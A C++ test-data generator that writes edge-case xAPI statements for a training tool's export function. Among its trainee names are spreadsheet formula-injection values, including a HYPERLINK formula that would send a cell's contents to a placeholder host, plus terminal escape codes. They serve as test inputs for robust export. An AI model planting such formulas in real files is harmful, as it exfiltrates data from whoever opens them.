// SupportLab xAPI test data: statements for the edge cases an LRS must still accept (names with quotes,
// control characters and invalid UTF-8, a scenario worth 0 points, the first and last exportable
// instants, lab context, failing and passing attempts), written as `export --format xapi` writes them.
// Usage: xapi_samples OUT.json
#include "reports/export.hpp"

#include <cstdio>
#include <fstream>
#include <string>

namespace {

sl::Attempt Finished(sl::RowId id, sl::RowId trainee, const std::string& scenario, double score, double max,
                     sl::WallTime start, sl::WallTime end) {
    sl::Attempt a;
    a.m_id = id;
    a.m_traineeId = trainee;
    a.m_scenarioId = scenario;
    a.m_startedWall = start;
    a.m_endedWall = end;
    a.m_finished = true;
    a.m_score = score;
    a.m_max = max;
    a.m_scoredWithHash = "0123456789abcdef";
    a.m_eventCount = 3;
    a.m_lastWall = end;
    return a;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: xapi_samples OUT.json\n");
        return 2;
    }
    sl::ExportData d;
    d.m_thresholds.m_default = 70.0;
    d.m_thresholds.m_byLab["lab \"one\""] = 80.0;
    d.m_trainees = {{1, "Zoë \"Q\" O'Brien", "Cohort, A"},
                    {2, std::string("bad\xff\xfe utf8 \x01\x1b[31m", 18), "=1+1"},
                    {3, "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "@cohort"},
                    {4, "名前 テスト", ""}};
    d.m_attempts = {
        Finished(1, 1, "common-os", 35.5, 40.0, 1700000000000, 1700000600000),
        Finished(2, 2, "scenario with spaces/and/slashes", 10.0, 40.0, 0, 999),             // the first instant
        Finished(3, 3, "zero-max", 0.0, 0.0, 1700000000000, 1700000000000),                 // nothing to score
        Finished(4, 4, "long", 12.0, 12.0, 253402300799999 - 90061000, 253402300799999),   // the last instant
        Finished(5, 1, "negative", -3.0, 10.0, 1700000000000, 1700003600000),              // clamped to 0
    };
    d.m_attempts[0].m_labId = "lab \"one\"";
    d.m_attempts[0].m_moduleId = "m1";
    std::ofstream out(argv[1], std::ios::binary);
    out << sl::ExportXapi(d, "https://lrs.example.org:8443/supportlab/");
    return out ? 0 : 1;
}
